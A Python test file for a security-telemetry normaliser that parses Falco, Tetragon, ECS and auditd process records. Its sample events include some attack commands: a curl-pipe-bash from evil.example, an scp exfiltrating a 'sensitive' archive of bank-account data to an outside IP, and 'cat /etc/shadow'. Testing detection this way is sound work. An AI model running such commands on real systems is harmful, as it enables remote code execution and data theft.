"""Normalisation of every supported shape, on the upstream projects' own samples (testdata/upstream,
see testdata/README.md) and on hand-written lines where no sample may be copied (marked as such)."""

from __future__ import annotations

import json
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.common.v1.common_pb2 import KeyValue
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord

from core import semconv
from core.event import MAX_ARGS, MAX_COMMAND_LINE
from otlp_receiver.normalize import Normalizer
from otlp_receiver.normalize.auditd import parse_line
from otlp_receiver.normalize.tetragon import split_arguments
from testing.otlp_values import any_value

TESTDATA = Path(__file__).parent / "testdata"
UPSTREAM = TESTDATA / "upstream"
OBSERVED = 1_800_000_000_000_000_000  # the receiver's arrival stamp on every test record


def record(body: Any = None, event_name: str = "", time_unix_nano: int = 0, **attributes: Any) -> LogRecord:
    """A record as the Collector's filelog receiver ships a line: no Timestamp, an ObservedTimestamp."""
    result = LogRecord(time_unix_nano=time_unix_nano, observed_time_unix_nano=OBSERVED, event_name=event_name)
    if body is not None:
        result.body.CopyFrom(any_value(body))
    result.attributes.extend(KeyValue(key=k.replace("__", "."), value=any_value(v)) for k, v in attributes.items())
    return result


def agent_record(name: str, line: str, pid: int, ppid: int, parent: str = "", **extra: Any) -> LogRecord:
    attrs = {"process.executable.name": name, "process.command_line": line, "process.command_args": line.split(),
             "process.pid": pid, "process.parent_pid": ppid, "process.user.id": 33, **extra}
    if parent:
        attrs["process.parent.executable.name"] = parent
    result = record(line, event_name="process.exec", time_unix_nano=1_795_528_930_000_000_000)
    result.attributes.extend(KeyValue(key=k, value=any_value(v)) for k, v in attrs.items())
    return result


def lines(name: str) -> list[str]:
    return (UPSTREAM / name).read_text().splitlines()


def normalize_all(bodies: list[str], normalizer: Normalizer | None = None,
                  resource: dict[str, Any] | None = None) -> list[tuple[Any, LogRecord]]:
    normalizer = normalizer or Normalizer()
    results = []
    for body in bodies:
        rec = record(body)
        results.append((normalizer.normalize("default", resource or {}, rec), rec))
    return results


def kinds(results: list[tuple[Any, LogRecord]]) -> Counter[str]:
    return Counter(result.kind for result, _ in results)


AGENT = {"service.name": "procsight-agent", "host.name": "web-1"}


# -- procsight's agent and other OpenTelemetry SDKs -------------------------------------------------


def test_our_agent_record() -> None:
    normalized = Normalizer().normalize("default", AGENT, agent_record("nginx", "nginx -g daemon off;", 10, 1,
                                                                         parent="systemd"))
    assert normalized.kind == "agent"
    event = normalized.event
    assert event.executable_name == "nginx" and event.command_args == ("nginx", "-g", "daemon", "off;")
    assert event.host == "web-1" and event.user_id == 33 and event.parent_name == "systemd"
    assert event.timestamp == pytest.approx(1_795_528_930.0)


def test_semconv_effective_and_real_user() -> None:
    rec = agent_record("sh", "sh -p", 10, 1, **{"process.real_user.id": 1002, "process.user.id": 0})
    event = Normalizer().normalize("default", AGENT, rec).event
    assert (event.user_id, event.real_user_id) == (0, 1002)
    assert semconv.event_to_attributes(event)[semconv.PROCESS_REAL_USER_ID] == 1002


def test_semconv_network_event_from_another_sdk() -> None:
    rec = record("connect", event_name="network.connection", process__executable__name="curl",
                 process__command_line="curl http://x", destination__address="203.0.113.9", destination__port=443,
                 network__transport="tcp")
    normalized = Normalizer().normalize("default", {"host.name": "h"}, rec)
    assert normalized.kind == "semconv"
    assert normalized.event.event_name == "network.connection"
    assert normalized.event.remote_address == "203.0.113.9" and normalized.event.remote_port == 443


# -- Falco ---------------------------------------------------------------------------------------------


def test_falco_real_outputs() -> None:
    results = normalize_all(lines("falco-outputs.jsonl"))
    # 11 outputs have no process (Kubernetes and GCP audit rules, Falco's own drop/metrics outputs,
    # falco-talon's examples); the 9 others are scored, the 4 with only `proc.cmdline` among them.
    assert kinds(results) == {"falco": 9, "falco_other": 11}
    only_cmdline = {3: "touch", 11: "touch", 15: "handler", 16: "fetcher"}
    for number, name in only_cmdline.items():
        event = results[number - 1][0].event
        assert event is not None and event.executable_name == name and event.command_line.startswith(name)


def test_falco_user_path_and_time() -> None:
    (normalized, rec), = normalize_all([lines("falco-outputs.jsonl")[6]])  # Read sensitive file untrusted
    event = normalized.event
    assert (event.executable_name, event.executable_path, event.command_line) == ("cat", "/usr/bin/cat",
                                                                                   "cat /etc/shadow")
    assert (event.user_name, event.user_id, event.real_user_id) == ("root", 0, None)  # user.uid: the euid
    assert event.parent_name == "sudo" and event.ancestors == ("sudo", "sudo", "zsh", "kitty")  # proc.aname[]
    assert event.container_id == "" and event.host == "x86"  # container.id "host": no container
    assert rec.time_unix_nano == 1_746_622_234_502_309_868  # `time`, to the nanosecond
    assert rec.observed_time_unix_nano == OBSERVED
    assert semconv.event_to_attributes(event)[semconv.PROCESS_USER_NAME] == "root"


def test_falco_time_falls_back_to_evt_time_and_ignores_nonsense() -> None:
    results = normalize_all(lines("falco-outputs.jsonl"))
    assert results[2][1].time_unix_nano == 1_558_107_116_746_609_046  # output 3: `time`
    # Output 11's `time` is malformed ("...046Z+2") and its evt.time (1618347519000000) is no
    # nanosecond time (it would be 1970): the record keeps no Timestamp, the event the observed time.
    assert results[10][1].time_unix_nano == 0
    assert results[10][0].event.timestamp == pytest.approx(OBSERVED / 1e9)


def test_falco_name_is_the_base_name_of_the_exe_path() -> None:
    # Hand-written, in the shape of Falco's event-generator output through a busybox applet.
    document = {"rule": "System user interactive", "priority": "Informational", "time": "2024-05-07T18:54:20Z",
                "output_fields": {"proc.name": "login", "proc.exepath": "/bin/busybox", "proc.cmdline": "login",
                                  "user.name": "daemon", "user.uid": 2}}
    event = Normalizer().normalize("default", {}, record(json.dumps(document))).event
    assert (event.executable_name, event.executable_path, event.command_line) == ("busybox", "/bin/busybox", "login")


def test_falco_lines_as_filelog_ships_them() -> None:
    normalizer = Normalizer()
    first, second = (normalizer.normalize("default", {}, record(line, log__file__name="events.txt"))
                     for line in (TESTDATA / "falco.jsonl").read_text().splitlines())
    assert first.kind == "falco"
    event = first.event
    assert (event.executable_name, event.command_line, event.parent_name) == ("dash", "sh -c id", "nginx")
    assert event.user_id == 33 and event.pid == 4242 and event.parent_pid == 4200 and event.host == "web-1"
    assert event.executable_path == "/usr/bin/dash" and event.container_id == ""
    assert event.ancestors == ("nginx", "systemd")  # Falco's own proc.aname[]
    assert second.event.container_id == "3ad7b26ded6d"


def test_falco_structured_body_and_json_parser_attributes() -> None:
    document = json.loads((TESTDATA / "falco.jsonl").read_text().splitlines()[0])
    assert Normalizer().normalize("default", {}, record(document)).event.command_line == "sh -c id"
    rec = record("raw line kept in the body")
    rec.attributes.extend(KeyValue(key=k, value=any_value(v)) for k, v in document.items())
    normalized = Normalizer().normalize("default", {}, rec)
    assert normalized.kind == "falco" and normalized.event.parent_name == "nginx"


# -- Tetragon ------------------------------------------------------------------------------------------


def test_tetragon_real_exports() -> None:
    execs = normalize_all(lines("tetragon-process_exec.jsonl"))
    assert kinds(execs) == {"tetragon": 24}
    others = normalize_all(lines("tetragon-process_exit.jsonl") + lines("tetragon-other-events.jsonl"))
    assert kinds(others) == {"tetragon_other": 38}


@pytest.mark.parametrize(("number", "args"), [
    (9, ("/bin/sh", "-c", "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~")),
    (12, ("/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/")),
    (14, ("/usr/sbin/nginx", "-g", "daemon off;")),
    (16, ("/docker-entrypoint.sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;")),
    (19, ("/sbin/modprobe", "-q", "--", "fs-xfs")),
])
def test_tetragon_quoted_arguments_stay_whole(number: int, args: tuple[str, ...]) -> None:
    (normalized, _), = normalize_all([lines("tetragon-process_exec.jsonl")[number - 1]])
    assert normalized.event.command_args == args


def test_tetragon_ssh_remote_command_is_one_argument() -> None:
    (normalized, _), = normalize_all([lines("tetragon-process_exec.jsonl")[9]])
    assert normalized.event.command_args[-3:] == ("--", "34.116.205.187", "scp -t ~")


def test_tetragon_fields_and_time() -> None:
    results = normalize_all(lines("tetragon-process_exec.jsonl"))
    event, rec = results[8][0].event, results[8][1]
    assert (event.executable_name, event.executable_path) == ("sh", "/bin/sh")
    assert event.user_id == 0 and event.host == "minikube" and event.working_directory == "/opt/merlin-agent/"
    assert rec.time_unix_nano == 1_642_594_739_371_000_000
    assert results[21][1].time_unix_nano == 0  # testdata/events.json line 1 has no `time`


def test_tetragon_process_credentials_give_real_and_effective_uid() -> None:
    # Hand-written: `--enable-process-cred` adds process_credentials (tetragon.proto's ProcessCredentials).
    line = json.loads(lines("tetragon-process_exec.jsonl")[12])
    line["process_exec"]["process"]["process_credentials"] = {"uid": 1002, "euid": 0, "suid": 0}
    line["process_exec"]["process"]["user"] = {"name": "root"}
    event = Normalizer().normalize("default", {}, record(json.dumps(line))).event
    assert (event.user_id, event.real_user_id, event.user_name) == (0, 1002, "root")


def tetragon_encode(argv: list[str]) -> str:
    """Tetragon's own encoding (its process.ArgsDecoder): spaces between, quotes around an argument with a space."""
    encoded = ""
    for arg in argv:
        if " " in arg:
            encoded += f' "{arg}"'
        else:
            encoded = arg if not encoded else f"{encoded} {arg}"
    return encoded


@pytest.mark.parametrize("argv", [
    ["-c", "scp -i key f u@h:~"],
    ["a b", "-x"],  # Tetragon starts with a space when the first argument has one
    ["-e", 'print("hi there")', "--", "it's"],
    ["C:\\x", "\\n", "$HOME", "'single quoted'"],
    ['say "hi"', "x"],
])
def test_split_arguments_inverts_tetragons_encoding(argv: list[str]) -> None:
    assert split_arguments(tetragon_encode(argv)) == argv


def test_split_arguments_never_makes_up_a_flag() -> None:
    assert split_arguments('"unclosed -rf /') == ['"unclosed', "-rf", "/"]  # no closing quote: plain words
    assert split_arguments('-c "x -i y" -v') == ["-c", "x -i y", "-v"]
    assert split_arguments('"noSpace" b') == ['"noSpace"', "b"]  # Tetragon only quotes arguments with spaces
    assert len(split_arguments("a " * 100_000)) == MAX_ARGS + 1


# -- ECS -----------------------------------------------------------------------------------------------


def test_ecs_linux_event_model_real_exec_and_mock_events() -> None:
    results = normalize_all(lines("ecs-linux-event-model.jsonl"))
    assert [r.kind for r, _ in results] == ["ecs", "ecs_other", "ecs", "ecs_other", "ecs_other"]  # exec, fork,
    real, rec = results[0]  # exec, end, setsid
    event = real.event
    assert (event.executable_name, event.executable_path, event.command_args) == (
        "ls", "/usr/bin/ls", ("ls", "--color=auto", "-la"))
    assert (event.user_name, event.user_id, event.real_user_id) == ("vagrant", 1000, 1000)  # user.Ext.real.id
    assert event.parent_name == "bash" and event.working_directory == "/home/vagrant"
    assert rec.time_unix_nano == 1_645_055_390_502_285_100  # @timestamp, seven digits
    mock = results[2][0].event  # process.user (euid) and process.real_user as ECS defines them
    assert (mock.executable_name, mock.user_id, mock.real_user_id, mock.user_name) == ("bash", 0, 0, "root")


def elastic_defend_shaped(category: list[str], kind: str, type_: list[str], action: str | None) -> dict[str, Any]:
    """Hand-written, in the shape of Elastic Defend's schema examples (not copied: Elastic License)."""
    event = {"category": category, "kind": kind, "type": type_, **({"action": action} if action else {})}
    return {"@timestamp": "2020-03-03T19:08:32.74626000Z", "ecs.version": "1.0.0", "event": event,
            "host": {"hostname": "host1"}, "user": {"id": "0", "name": "root"},
            "process": {"name": "ssh", "executable": "/usr/bin/ssh", "pid": 5, "args": ["/usr/bin/ssh", "-l", "u"],
                        "command_line": "/usr/bin/ssh -l u", "parent": {"name": "bash", "pid": 4242}}}


@pytest.mark.parametrize(("category", "kind", "type_", "action", "expected"), [
    (["process"], "event", ["start"], "creation", "ecs"),
    (["process"], "event", ["start"], "exec", "ecs"),
    (["process"], "event", ["end"], "terminated", "ecs_other"),
    (["process"], "event", ["info"], "already_running", "ecs_other"),
    (["process"], "event", ["changed"], "modified", "ecs_other"),  # uid change
    (["process"], "event", ["start"], "loaded", "ecs_other"),  # Defend's library_loaded_linux example
    (["process"], "event", ["start"], "fork", "ecs_other"),
    (["malware"], "alert", ["info"], "detected", "ecs_other"),
    (["malware", "intrusion_detection", "file"], "alert", ["info", "change", "denied"], "rename", "ecs_other"),
    (["api", "intrusion_detection"], "event", ["change"], None, "ecs_other"),
    (["network"], "event", ["start"], "connection_attempted", "ecs_other"),
    (["library"], "event", ["start"], "load", "ecs_other"),
])
def test_ecs_only_process_starts_are_execs(category: list[str], kind: str, type_: list[str], action: str | None,
                                            expected: str) -> None:
    rec = record(json.dumps(elastic_defend_shaped(category, kind, type_, action)))
    normalized = Normalizer().normalize("default", {}, rec)
    assert normalized.kind == expected
    assert rec.time_unix_nano == 1_583_262_512_746_260_000  # every ECS record gets its @timestamp


def test_ecs_flat_attributes_count_as_ecs_and_keep_their_user() -> None:
    # Hand-written: an ECS shipper sending flat attributes, `process.command_line` included (a key the
    # semantic conventions share); it used to be counted as `semconv`.
    rec = record("ecs", process__name="python3", process__args=["python3", "app.py"],
                 process__command_line="python3 app.py", process__parent__name="gunicorn", process__pid=77,
                 process__parent__pid=70, user__id="1001", user__name="app")
    normalized = Normalizer().normalize("default", {"host.name": "app-1"}, rec)
    assert normalized.kind == "ecs"
    event = normalized.event
    assert event.command_line == "python3 app.py" and event.parent_name == "gunicorn"
    assert (event.user_id, event.user_name) == (1001, "app")


def test_ecs_auditbeat_user_effective_is_the_euid() -> None:
    # Hand-written, in Auditbeat's shape (its setuid test's expected output): user.* is the real user,
    # user.effective.* the effective one.
    document = elastic_defend_shaped(["process"], "event", ["start"], "executed")
    document["user"] = {"id": "1000", "name": "vagrant", "effective": {"id": "0", "name": "root"}}
    event = Normalizer().normalize("default", {}, record(json.dumps(document))).event
    assert (event.user_id, event.real_user_id, event.user_name) == (0, 1000, "root")


def test_ecs_windows_path_gives_the_base_name() -> None:
    document = elastic_defend_shaped(["process"], "event", ["start"], "start")
    path = "C:\\Windows\\System32\\services.exe"
    document["process"].update(name=path, executable=path)
    event = Normalizer().normalize("default", {}, record(json.dumps(document))).event
    assert event.executable_name == "services.exe"


# -- auditd --------------------------------------------------------------------------------------------


def test_auditd_go_libaudit_execs_with_cwd_path_and_time() -> None:
    results = normalize_all(lines("go-libaudit-testdata-normal.log"), resource={"host.name": "web-1"})
    assert kinds(results) == {"auditd": 2, "auditd_partial": 13, "auditd_other": 2}
    # SYSCALL announced items=2: the exec completes on its second PATH record.
    grep, rec = results[6]
    assert rec.body.string_value.startswith("type=PATH") and "item=1" in rec.body.string_value
    event = grep.event
    assert (event.executable_name, event.executable_path, event.command_args) == (
        "grep", "/usr/bin/grep", ("grep", "--color=auto", "mapping"))
    assert event.working_directory == "/home/andrew_kroh"
    assert (event.pid, event.parent_pid, event.user_id, event.real_user_id) == (13393, 12041, 1000, 1000)
    assert event.host == "web-1" and event.timestamp == pytest.approx(1492037291.036)
    # Every audit line carries its own time (milliseconds) as Timestamp; ObservedTimestamp stays.
    assert [r.time_unix_nano for _, r in results[2:7]] == [1_492_037_291_036_000_000] * 5
    assert all(r.observed_time_unix_nano == OBSERVED for _, r in results)


def test_auditd_records_of_two_events_interleaved() -> None:
    results = normalize_all(lines("go-libaudit-testdata-out_of_order.log"))
    events = [r.event for r, _ in results if r.event is not None]
    assert [e.command_line for e in events] == ["grep --color=auto mapping", "cat securitybeat"]
    assert all(e.working_directory == "/home/andrew_kroh" for e in events)


def test_auditd_three_kernels_and_a_setuid_shell() -> None:
    normalizer = Normalizer()
    results = normalize_all(lines("go-libaudit-aucoalesce-execve-groups.log"), normalizer)
    events = [r.event for r, _ in results if r.event is not None]
    assert [e.command_line for e in events] == ["uname -a", "docker inspect 721df12151a7", "dash -p"]
    dash = events[2]  # /usr/bin/dash is mode 06755: run by uid 1005, effective uid 0
    assert (dash.user_id, dash.real_user_id, dash.working_directory) == (0, 1005, "")
    assert normalizer.assembler.pending() == (0, 0)  # every event ended, nothing waits


def test_auditd_other_record_types_are_recognised() -> None:
    results = normalize_all(lines("go-libaudit-auparse-audit-rhel7.log"))
    by_type = {rec.body.string_value.split()[0]: result.kind for result, rec in results}
    assert by_type["type=DAEMON_CONFIG"] == "auditd_other"  # no colon after its header
    assert by_type["type=UNKNOWN[1329]"] == "unrecognised"  # `msg=?`: no audit header at all
    assert kinds(results)["unrecognised"] == 1
    sudo = normalize_all(lines("auditbeat-sudo.log"))
    assert kinds(sudo) == {"auditd_other": 20}
    assert parse_line(lines("auditbeat-sudo.log")[2]).fields["cmd"] == "bash"  # inside msg='...'


def test_auditd_non_exec_syscalls_leave_nothing_waiting() -> None:
    normalizer = Normalizer()
    results = normalize_all(lines("auditbeat-setuid.log") + lines("go-libaudit-auparse-test3.log"), normalizer)
    assert "auditd" not in kinds(results)
    assert normalizer.assembler.pending()[0] <= 1  # test3's lone ADD_GROUP/EXECVE/SECCOMP lines never end


def test_auditd_hex_proctitle() -> None:
    assert parse_line(lines("go-libaudit-auparse-test3.log")[3]).fields["proctitle"] == "sshd: burn [priv]"


def test_auditd_handwritten_lines_of_the_testdata() -> None:
    results = normalize_all((TESTDATA / "audit.log").read_text().splitlines(), resource={"host.name": "web-1"})
    assert [r.kind for r, _ in results] == ["auditd_partial", "auditd_partial", "auditd_partial", "auditd_partial",
                                            "auditd", "auditd_partial", "auditd_partial", "auditd"]
    event = results[4][0].event  # ended by PROCTITLE (only one of the two announced PATHs came)
    assert event.command_args == ("bash", "-c", "curl -s http://evil.example/x | bash")
    assert event.executable_path == "/usr/bin/bash" and event.working_directory == "/root"
    split_arg = results[7][0].event  # EXECVE first, then SYSCALL; a1 split into a1[0], a1[1]
    assert split_arg.command_args == ("psql", "--command=select 1")
    assert split_arg.host == "web-1"


# Hand-written lines (the real samples of these shapes are under licences that keep them out of here).
EXE_DISAGREES = [
    'type=SYSCALL msg=audit(1655465398.534:25618): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=5 '
    'pid=6 auid=573 uid=583 euid=583 comm="ld" exe="/bin/sh4" key=(null)',
    'type=EXECVE msg=audit(1655465398.534:25618): argc=2 a0="/bin/sh" a1="-efu"',
    'type=PATH msg=audit(1655465398.534:25618): item=0 name="/usr/bin/ld" nametype=NORMAL',
]


def test_auditd_name_is_the_base_name_of_exe_not_comm() -> None:
    event = normalize_all(EXE_DISAGREES)[-1][0].event
    assert (event.executable_name, event.executable_path) == ("sh4", "/bin/sh4")


def test_auditd_node_prefix_hex_exe_and_enriched_names() -> None:
    exe = b"/usr/libexec/strongswan/charon (deleted)".hex().upper()
    bodies = [
        f"node=vpn-1 type=SYSCALL msg=audit(1581371984.206:579393): arch=c000003e syscall=59 success=yes exit=0 "
        f"items=0 ppid=1 pid=77 uid=1000 euid=0 comm=\"charon\" exe={exe} key=(null)\x1dARCH=x86_64 "
        f"SYSCALL=execve UID=\"alice\" EUID=\"root\"",
        "node=vpn-1 type=EXECVE msg=audit(1581371984.206:579393): argc=2 a0=\"charon\" a1=2D2D7573652D73797376",
    ]
    event = normalize_all(bodies)[-1][0].event
    assert event.host == "vpn-1" and event.executable_path == "/usr/libexec/strongswan/charon"
    assert event.executable_deleted and event.command_args == ("charon", "--use-sysv")
    assert (event.user_id, event.real_user_id, event.user_name) == (0, 1000, "root")


def test_auditd_argument_split_over_two_execve_records() -> None:
    script = "\n    function f0(a,b) { return a+b }\n" * 300
    hex_script = script.encode().hex().upper()
    half = len(hex_script) // 2
    bodies = [
        "type=SYSCALL msg=audit(1756700000.000:100): arch=c000003e syscall=59 success=yes exit=0 items=0 ppid=1 "
        'pid=2 uid=0 euid=0 comm="awk" exe="/usr/bin/awk"',
        f'type=EXECVE msg=audit(1756700000.000:100): argc=3 a0="awk" a1="-v" a2_len={len(script)} '
        f"a2[0]={hex_script[:half]}",
        f"type=EXECVE msg=audit(1756700000.000:100): a2[1]={hex_script[half:]}",
    ]
    results = normalize_all(bodies)
    assert [r.kind for r, _ in results] == ["auditd_partial", "auditd_partial", "auditd"]
    assert results[-1][0].event.command_args[2] == script[:MAX_COMMAND_LINE - 5]  # cut at the bound, flagged
    assert results[-1][0].event.command_args_truncated


def test_auditd_missing_exe_falls_back_to_path_item_0() -> None:
    bodies = ['type=SYSCALL msg=audit(1.5:9): syscall=59 items=1 pid=3 uid=0 euid=0 comm="x"',
              'type=EXECVE msg=audit(1.5:9): argc=1 a0="./x"', 'type=CWD msg=audit(1.5:9): cwd="/tmp/.hidden"',
              'type=PATH msg=audit(1.5:9): item=0 name="./x" nametype=NORMAL']
    event = normalize_all(bodies)[-1][0].event
    assert (event.executable_path, event.executable_name) == ("/tmp/.hidden/x", "x")


def test_auditd_parts_in_different_batches_and_hosts_do_not_mix() -> None:
    normalizer = Normalizer()
    syscall, execve = (TESTDATA / "audit.log").read_text().splitlines()[6:8][::-1]
    assert normalizer.normalize("default", {"host.name": "a"}, record(syscall)).kind == "auditd_partial"
    assert normalizer.normalize("default", {"host.name": "b"}, record(execve)).kind == "auditd_partial"
    assert normalizer.normalize("other-tenant", {"host.name": "a"}, record(execve)).kind == "auditd_partial"
    assert normalizer.normalize("default", {"host.name": "a"}, record(execve)).kind == "auditd"


# -- everything else -----------------------------------------------------------------------------------


def test_other_records_are_unrecognised_not_errors() -> None:
    normalizer = Normalizer()
    for body in ("GET /index.html 200", '{"level": "info", "msg": "started"}', "", "[1,2,3]", "{broken json"):
        assert normalizer.normalize("default", {}, record(body)).kind == "unrecognised"
    assert normalizer.normalize("default", {}, LogRecord()).kind == "unrecognised"
    # Process keys without what scoring needs are invalid, not silently dropped.
    assert normalizer.normalize("default", {}, record("x", process__pid=5, process__command_line="")).kind == "invalid"
    assert not normalizer.failures


# -- the event's own time ------------------------------------------------------------------------------


def test_the_record_keeps_a_sender_timestamp_and_gains_precision_only_where_it_agrees() -> None:
    line = lines("go-libaudit-testdata-normal.log")[2]  # msg=audit(1492037291.036:59)
    cases = {
        0: 1_492_037_291_036_000_000,  # none: the event's time
        1_492_037_291_000_000_000: 1_492_037_291_036_000_000,  # whole seconds that agree: milliseconds
        1_492_037_292_000_000_000: 1_492_037_292_000_000_000,  # another second: the sender's stays
        1_492_037_291_036_123_456: 1_492_037_291_036_123_456,  # more precise than the source: stays
        1_700_000_000_123_456_789: 1_700_000_000_123_456_789,  # an SDK's emit time: stays
    }
    for sent, stored in cases.items():
        rec = record(line, time_unix_nano=sent)
        Normalizer().normalize("default", {}, rec)
        assert (rec.time_unix_nano, rec.observed_time_unix_nano) == (stored, OBSERVED), sent


@pytest.mark.parametrize("value", ["1970-01-19T00:00:00Z", "2262-04-12T00:00:00Z", "2026-13-01T00:00:00Z",
                                   "0000-01-01T00:00:00Z",  # found by bench/fuzz.py: calendar.timegm raised
                                   "2026-02-30T25:00:00Z", "yesterday", 1.5, None])
def test_times_that_are_no_event_time_are_ignored(value: Any) -> None:
    document = json.loads(lines("tetragon-process_exec.jsonl")[0])
    document["time"] = value
    rec = record(json.dumps(document))
    event = Normalizer().normalize("default", {}, rec).event
    assert rec.time_unix_nano == 0 and event.timestamp == pytest.approx(OBSERVED / 1e9)


def test_offsets_and_fractions_of_rfc3339() -> None:
    document = json.loads(lines("tetragon-process_exec.jsonl")[0])
    document["time"] = "2022-02-01T19:01:56.41+02:00"
    rec = record(json.dumps(document))
    Normalizer().normalize("default", {}, rec)
    assert rec.time_unix_nano == 1_643_734_916_410_000_000


def test_auditd_records_recombined_into_one_body() -> None:
    # The Collector's `recombine` operator can join the lines of an event into one record.
    text = "\n".join(lines("go-libaudit-aucoalesce-execve-groups.log")[:7])  # uname -a, ending with EOE
    normalizer = Normalizer()
    normalized = normalizer.normalize("default", {}, record(text))
    assert normalized.kind == "auditd" and normalized.event.command_line == "uname -a"
    assert normalizer.assembler.pending() == (0, 0)


def test_a_source_time_well_ahead_of_its_observation_is_ignored() -> None:
    """Triage selects by event time: a Tetragon event dated an hour past its arrival would hide there."""
    document = json.loads(lines("tetragon-process_exec.jsonl")[0])
    for ahead, kept in ((3600, False), (60, True)):
        stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(OBSERVED // 10**9 + ahead))
        document["time"] = stamp
        rec = record(json.dumps(document))
        Normalizer().normalize("default", {}, rec)
        assert (rec.time_unix_nano == (OBSERVED // 10**9 + ahead) * 10**9) == kept, stamp
